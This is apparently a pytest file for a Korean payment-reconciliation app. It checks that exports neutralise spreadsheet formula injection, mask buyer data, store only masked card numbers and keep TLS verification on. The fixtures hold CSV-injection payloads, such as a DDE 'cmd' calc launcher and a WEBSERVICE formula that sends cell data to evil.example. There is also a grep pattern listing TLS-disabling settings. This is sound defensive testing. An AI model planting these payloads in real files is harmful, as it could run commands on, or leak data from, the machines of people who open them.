"""Hostile text, personal data and card numbers on their way from shop files and the API to reports.

* Formula injection end to end: buyer names that a spreadsheet would run (``= + - @``, tab, CR)
  come in through an order file and through the API (an orphan payment's buyer_name, which the
  report shows when there is no order). In the xlsx every cell is a plain string (no ``<f>``
  element anywhere); in the CSV every such cell starts with ``'``.
  The product name (``name`` on the payment, 상품명 in the file) is not exported at all — the
  test checks it does not appear in any report.
* ``--mask-personal`` / ``mask_personal=True`` masks buyer names in xlsx and csv. Buyer email and
  phone are never exported (masked or not); the JSON report has no buyer fields.
* Card numbers: the ledger holds only the masked form, even when the API sends a full number.
* TLS: the client for https://api.iamport.kr verifies certificates and host names; a loopback
  https server with a self-signed certificate is refused; no code path turns verification off.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import ssl
import subprocess
import threading
import zipfile
from datetime import date
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from trust_support import ROOT, kst

from recon_app.sandbox.server import SandboxServer
from recon_app.sandbox.store import SandboxStore

HOSTILE = [
    '=HYPERLINK("http://evil.example","클릭")',
    "+82-10-1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
API_BUYER = "=cmd|' /C calc'!A0"
API_PRODUCT = '=WEBSERVICE("http://evil.example/?"&A1)'
EMAIL, PHONE = "victim.person@example.com", "010-9876-5432"
FULL_CARD = "4111111111111111"


def _orders_file(path: Path) -> None:
    rows = ["주문번호,주문일시,결제금액,주문상태,주문자명,상품명"]
    for i, name in enumerate(HOSTILE):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f'H-{i},2026-10-0{1 + i} 10:00:00,{1000 * (i + 1)},결제완료,{quoted},"=1+1"')
    rows.append("H-9,2026-10-09 10:00:00,5000,결제완료,홍길동,양말")
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Sync (with hostile API text and a full card number), import, reconcile, export twice."""
    from recon_app.services.credentials import Credentials
    from recon_app.services.exporting import export_csv, export_json, export_xlsx
    from recon_app.services.importing import import_orders
    from recon_app.services.reconciling import reconcile_month
    from recon_app.services.syncing import SyncRequest, sync_payments
    from recon_app.storage.db import open_ledger

    tmp = tmp_path_factory.mktemp("privacy")
    store = SandboxStore()
    at = kst(2026, 10, 3, 12)
    store.add(
        {
            "imp_uid": "imp_200000000001",
            "merchant_uid": "H-9",
            "amount": 5000,
            "status": "paid",
            "pay_method": "card",
            "pg_provider": "kcp",
            "paid_at": at,
            "buyer_name": "홍길동",
            "buyer_email": EMAIL,
            "buyer_tel": PHONE,
            "card_number": FULL_CARD,
            "name": API_PRODUCT,
        }
    )
    store.add(
        {
            "imp_uid": "imp_200000000002",
            "merchant_uid": "NO-ORDER-1",
            "amount": 7000,
            "status": "paid",
            "pay_method": "card",
            "pg_provider": "kcp",
            "paid_at": at + 60,
            "buyer_name": API_BUYER,
            "buyer_email": EMAIL,
            "buyer_tel": PHONE,
            "card_number": "4111-1111-1111-1111",
            "name": API_PRODUCT,
        }
    )
    db = tmp / "ledger.sqlite3"
    led = open_ledger(db)
    with SandboxServer(store, port=0) as server:
        sync_payments(
            led,
            SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=server.base_url),
            Credentials(server.imp_key, server.imp_secret),
        )
    orders = tmp / "orders.csv"
    _orders_file(orders)
    import_orders(led, orders)
    result = reconcile_month(led, "2026-10")
    led.close()
    out: dict[str, Any] = {"db": db, "result": result}
    for masked in (False, True):
        d = tmp / ("masked" if masked else "plain")
        d.mkdir()
        out[masked] = {
            "xlsx": export_xlsx(result, d / "r.xlsx", mask_personal=masked),
            "csv": export_csv(result, d / "r.csv", mask_personal=masked),
            "json": export_json(result, d / "r.json"),
        }
    return out


def _xlsx_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def _xlsx_texts(path: Path) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path, read_only=True)
    texts = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows(values_only=True)
        for c in row
        if isinstance(c, str)
    ]
    wb.close()
    return texts


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_ledger_holds_the_hostile_text_as_data(reports: dict[str, Any]) -> None:
    con = sqlite3.connect(reports["db"])
    names = {r[0] for r in con.execute("SELECT buyer_name FROM orders")}
    assert {h.strip() for h in HOSTILE} <= {n.strip() for n in names}
    assert API_BUYER in {r[0] for r in con.execute("SELECT buyer_name FROM payments")}


def test_xlsx_has_no_formula_and_keeps_the_text(reports: dict[str, Any]) -> None:
    xml = _xlsx_xml(reports[False]["xlsx"])
    sheets = {n: x for n, x in xml.items() if n.startswith("xl/worksheets/")}
    assert sheets and not [n for n, x in sheets.items() if re.search(r"<f[ >]", x)]
    texts = _xlsx_texts(reports[False]["xlsx"])
    for name in [h.strip() for h in HOSTILE] + [API_BUYER]:
        assert any(t.strip() == name for t in texts), name  # shown as text, not run, not lost


def test_csv_neutralises_every_formula_prefix(reports: dict[str, Any]) -> None:
    cells = _csv_cells(reports[False]["csv"])
    header, body = cells[0], cells[1:]
    money = {
        "주문금액",
        "쇼핑몰 환불",
        "PG 결제",
        "PG 취소",
        "차이",
        "수수료",
        "수수료 부가세",
        "정산 예정액",
    }
    risky = [
        (header[i], c)
        for row in body
        for i, c in enumerate(row)
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and header[i] not in money
    ]
    assert not risky, risky
    flat = [c for row in body for c in row]
    for name in [h.strip() for h in HOSTILE] + [API_BUYER]:
        assert any(c.startswith("'") and c[1:].strip() == name for c in flat), name
    for row in body:  # money columns stay plain integers
        for i, c in enumerate(row):
            if header[i] in money and c:
                assert re.fullmatch(r"-?\d+", c), (header[i], c)


def test_product_names_are_not_exported(reports: dict[str, Any]) -> None:
    for masked in (False, True):
        for kind, path in reports[masked].items():
            blob = (
                path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
            )
            assert API_PRODUCT.encode() not in blob and b"WEBSERVICE" not in blob, kind


def test_mask_personal_hides_names_and_email_phone_never_leave(reports: dict[str, Any]) -> None:
    plain_texts = _xlsx_texts(reports[False]["xlsx"])
    assert "홍길동" in plain_texts
    masked = reports[True]
    texts = _xlsx_texts(masked["xlsx"]) + [c for row in _csv_cells(masked["csv"]) for c in row]
    assert "홍길동" not in texts and "홍*동" in texts
    for name in HOSTILE + [API_BUYER]:
        assert not any(t.lstrip("'") == name for t in texts), name
    for flag in (False, True):
        for kind, path in reports[flag].items():
            blob = (
                path.read_bytes() if kind != "xlsx" else "".join(_xlsx_xml(path).values()).encode()
            )
            for secret in (EMAIL, PHONE, "9876-5432", "victim.person"):
                assert secret.encode() not in blob, (flag, kind, secret)
    doc = json.loads(masked["json"].read_text(encoding="utf-8"))
    assert all("buyer" not in k for row in doc["rows"] for k in row)


def test_mask_personal_through_the_cli(reports: dict[str, Any], tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    from recon_app.cli.main import main

    assert (
        main(
            [
                "--db",
                str(reports["db"]),
                "reconcile",
                "--month",
                "2026-10",
                "--mask-personal",
                "--xlsx",
                str(tmp_path / "r.xlsx"),
                "--csv",
                str(tmp_path / "r.csv"),
            ]
        )
        == 0
    )
    texts = _xlsx_texts(tmp_path / "r.xlsx") + [
        c for row in _csv_cells(tmp_path / "r.csv") for c in row
    ]
    assert "홍*동" in texts and "홍길동" not in texts


def test_ledger_has_no_unmasked_card_number(reports: dict[str, Any]) -> None:
    con = sqlite3.connect(reports["db"])
    cards = [r[0] for r in con.execute("SELECT card_number FROM payments")]
    con.close()
    assert cards and all(c and "*" in c for c in cards), cards
    blob = b"".join(p.read_bytes() for p in reports["db"].parent.glob("ledger.sqlite3*"))
    assert not re.search(rb"(?<!\d)\d{16}(?!\d)", blob)
    assert not re.search(rb"\d{4}-\d{4}-\d{4}-\d{4}", blob)
    assert FULL_CARD.encode() not in blob


# ---- TLS ------------------------------------------------------------------------------------
def test_client_for_the_real_api_verifies_certificates() -> None:
    from recon_app.adapters.portone.client import PortOneClient
    from recon_app.services.syncing import DEFAULT_API_BASE

    with PortOneClient(DEFAULT_API_BASE, "k" * 8, "s" * 8) as client:
        ctx = client._http._transport._pool._ssl_context  # httpx keeps the context it was given
        assert ctx.verify_mode == ssl.CERT_REQUIRED and ctx.check_hostname is True


def test_no_code_path_turns_verification_off() -> None:
    """Grep over the app (the behavioural test below covers the path actually taken)."""
    pattern = re.compile(
        r"verify\s*=\s*(False|0|None)|CERT_NONE|check_hostname\s*=\s*False|"
        r"_create_unverified_context|PYTHONHTTPSVERIFY|SSL_CERT_FILE|REQUESTS_CA_BUNDLE"
    )
    hits = [
        f"{p.relative_to(ROOT)}:{i}"
        for p in (ROOT / "recon_app").rglob("*.py")
        for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    assert not hits, hits
    clients = [
        f"{p.relative_to(ROOT)}"
        for p in (ROOT / "recon_app").rglob("*.py")
        if "sandbox" not in p.parts
        and re.search(
            r"httpx\.(Client|AsyncClient|get|post|request)\(", p.read_text(encoding="utf-8")
        )
    ]
    # One place builds HTTP clients (the sandbox is the local server, it never calls out).
    assert clients == ["recon_app/adapters/portone/client.py"], clients


@pytest.fixture
def self_signed_https(tmp_path: Path):  # type: ignore[no-untyped-def]
    """An https server on 127.0.0.1 with a self-signed certificate (what a MITM proxy shows)."""
    key, cert = tmp_path / "k.pem", tmp_path / "c.pem"
    made = subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-keyout",
            str(key),
            "-out",
            str(cert),
            "-days",
            "1",
            "-subj",
            "/CN=127.0.0.1",
            "-addext",
            "subjectAltName=IP:127.0.0.1",
        ],
        capture_output=True,
    )
    if made.returncode != 0:
        pytest.skip(f"openssl not available: {made.stderr[:200]!r}")
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_a: Any) -> None:
            pass

        def do_POST(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

    httpd = HTTPServer(("127.0.0.1", 0), Handler)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
    t = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    t.start()
    yield f"https://127.0.0.1:{httpd.server_address[1]}", hits
    httpd.shutdown()
    httpd.server_close()


def test_self_signed_certificate_is_refused(self_signed_https, ledger) -> None:  # type: ignore[no-untyped-def]
    from recon_app.adapters.portone.client import ClientOptions
    from recon_app.domain.errors import ApiError, CredentialsError
    from recon_app.services.credentials import Credentials
    from recon_app.services.syncing import SyncRequest, sync_payments

    base, hits = self_signed_https
    with pytest.raises((ApiError, CredentialsError)) as err:
        sync_payments(
            ledger,
            SyncRequest(date(2026, 10, 1), date(2026, 10, 31), api_base=base),
            Credentials("key-123456", "secret-123456"),
            options=ClientOptions(max_attempts=2, backoff_base=0.01, connect_timeout=2),
        )
    assert "CERTIFICATE_VERIFY_FAILED" in str(err.value) or "인증서" in str(err.value), str(
        err.value
    )
    assert hits == []  # the key and secret were never sent
